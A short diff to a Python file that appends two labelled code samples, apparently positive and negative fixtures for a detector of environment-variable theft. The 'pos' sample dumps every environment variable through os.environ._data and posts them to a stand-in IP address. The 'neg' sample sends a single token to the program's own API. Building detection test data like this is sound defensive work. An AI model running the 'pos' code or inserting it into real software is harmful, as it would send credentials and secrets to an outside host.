@@ -59,3 +59,12 @@ def report(data):
 env = {**os.environ, "CI": "1"}
 subprocess.run(["make"], env=env)
 report(env)
+#@ pos os.environ's private bytes mapping bound to a name, iterated and posted
+import os, urllib.request
+store = os.environ._data
+body = b"\n".join(k + b"=" + v for k, v in store.items())
+urllib.request.urlopen("http://198.51.100.51/e", data=body)
+#@ neg one variable of the bytes mapping, sent to the program's own API
+import os, urllib.request
+token = os.environ._data[b"API_TOKEN"].decode()
+urllib.request.urlopen(urllib.request.Request("https://api.example.com/v1/me", headers={"Authorization": "Bearer " + token}))
